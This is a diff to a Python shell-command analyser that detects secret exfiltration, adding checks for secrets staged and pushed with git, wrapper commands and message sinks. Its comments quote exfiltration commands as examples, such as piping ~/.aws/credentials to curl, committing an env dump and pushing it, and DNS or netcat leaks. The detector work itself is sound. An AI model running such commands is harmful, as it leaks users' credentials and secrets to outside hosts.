@@ -89,6 +89,8 @@ class Flow:
     """Origins of secrets written to a file whose name is unknown."""
     texts: dict[str, Origins] = field(default_factory=dict)
     """Shell text (a payload, a `bash -c` body) whose output is a secret -> origins."""
+    staged: Origins = field(default_factory=set)
+    """Origins of secrets in files `git add` staged (or `git commit -a` took): `git push` sends them."""
 
 
 def _flow(an: Analyser) -> Flow:
@@ -130,11 +132,14 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
             continue
         invs = _invs(s)
         own: Origins = set()
+        wrapped: Origins = set()
         for inv in invs:
             why = is_source(an, inv)
             if why:
                 tok = token_origin(inv)
                 own.add((why, tok[1] if tok else ""))
+                if inv is invs[0] and len(invs) > 1:
+                    wrapped.add((why, tok[1] if tok else ""))
                 if tok and tok[2]:
                     token_simples.append((s, tok[0]))
             if echoed and _prints_lone(inv):
@@ -177,6 +182,8 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
                     an._hit("EXFIL-006", binv.prog, f"{sorted(got)[0][0]} -> {s.argv[0]}() -> {binv.prog}")
         carry.built_image(an, flow.files, s)
         for inv in invs:
+            if inv.prog == "git":
+                _git_stage(an, flow, inv)
             sink = sink_of(inv)
             if sink is not None and inv.prog in T.CONFIG_OPTS:
                 extra = carry.config_args(an, inv)
@@ -188,12 +195,17 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
             if sink is None:
                 continue
             carried = got | _sink_files(an, flow, inv, sink)  # its own reads count through its inputs
+            if inv.via:
+                carried |= wrapped  # `xargs -a ~/.aws/credentials curl ..`: the wrapper reads what it passes on
+            if sink.keeps_token and all(label.startswith("$") for label, _owner in carried):
+                used |= {label for label, _owner in carried}
+                continue  # `echo "$NPM_TOKEN" | gh secret set NPM_TOKEN`: stored where it is used
             if not carried and lone is not None and _sends_lone(inv, sink):
                 an._hit("EXFIL-006", inv.prog, f"${lone} -> {inv.prog}")
                 continue
             where = _carried_in(inv, sink) if not carried and lone is not None else ""
             if where:
-                an._hit("EXFIL-006" if where in ("host name", "remote command") else "EXFIL-007", inv.prog,
+                an._hit("EXFIL-006" if where in ("host name", "remote command", "message") else "EXFIL-007", inv.prog,
                         f"${lone} in the {where} -> {inv.prog}")
                 continue
             if carried and not owned(carried, sink):
@@ -302,6 +314,8 @@ def _sends_lone(inv: Inv, sink: Sink) -> bool:
     """Whether the sink sends a value that is only a variable's (`curl -d "$K"`, `nc h 80 <<< $K`, `echo "$K" |
     nc h 80`, `dig $K.x.example`): the body, the stream or the query, not a header or a login."""
     s = inv.simple
+    if sink.kind == "message" and any(_lone(w) for w in sink.data):
+        return True  # `gh issue comment 1 -b "$K"`, `redis-cli -h h set k "$K"`
     if sink.stdin or any(a in ("@-", "-", "@/dev/stdin") for a in inv.args):
         if s.stdin is not None and _lone(s.stdin):
             return True
@@ -326,6 +340,8 @@ def _carried_in(inv: Inv, sink: Sink) -> str:
     looked up, `https://$K.x.example`), its path or query (ask: some APIs take a token there, `/bot$TOKEN/`, and
     every proxy and log keeps it), or an ssh remote command (`ssh h "$K"`, `ssh h "echo $K"`: deny; inside a larger
     command, `ssh h "export K=$K; ./deploy"`: ask). "" when it is not in one."""
+    if sink.kind == "message":
+        return "message" if any(UNKNOWN in w for w in sink.data) else ""  # a comment, a queue, a row: not a login
     kind = T.NET_SINKS.get(inv.prog)
     if kind == "shell":
         remote = [w for w in sink.data if UNKNOWN in w]
@@ -361,6 +377,7 @@ _NAMED = _Lazy(T.SECRET_NAMED)
 _DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly"})
 _RUNS_TEXT = SHELLS | {"eval", "source", "."}
 _NAMES = frozenset(T.ENV_DUMPS) | frozenset(T.TOKEN_COMMANDS) | frozenset(T.NET_SINKS) | frozenset(T.REMOTE_EXEC) | \
+    frozenset(T.MESSAGES) | \
     _RUNS_TEXT | {"ps", "tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "rsync", "scp", "cp", "pax", "rclone"}
 
 
@@ -417,6 +434,28 @@ def _sink_files(an: Analyser, flow: Flow, inv: Inv, sink: Sink) -> Origins:
                 not WHOLE_HOME.match(p):  # a home copied whole to a host is EXFIL-003's question
             out.add((p, ""))
     return out
+
+
+def _git_stage(an: Analyser, flow: Flow, inv: Inv) -> None:
+    """`git add F` / `git add -A` / `git commit -a` of a file a secret was written to stages it; a later
+    `git push` sends it (EXFIL-006: `env > env.txt; git add env.txt; git commit -m x; git push`)."""
+    pos, s = inv.positional, inv.simple
+    verb = pos[0] if pos else ""
+    if verb == "push" and flow.staged:
+        an._hit("EXFIL-006", "git", f"{sorted(flow.staged)[0][0]} -> a staged file -> git push")
+    if not flow.files or verb not in ("add", "commit", "stage"):
+        return
+    if verb == "commit":
+        if not (inv.has("a", "--all")):
+            return
+        names = ["."]
+    else:
+        names = [p for p in pos[1:] if UNKNOWN not in p] + (["."] if inv.has("A", "u", "--all", "--update") else [])
+    for raw in names:
+        p = normalise(raw, s.cwd, an.home)
+        for q, origins in flow.files.items():
+            if q == p or under(q, p):
+                flow.staged |= origins
 
 
 _WRITE_OPTS = frozenset({"-o", "--output", "-out", "--out", "-f", "--file", "-O"})
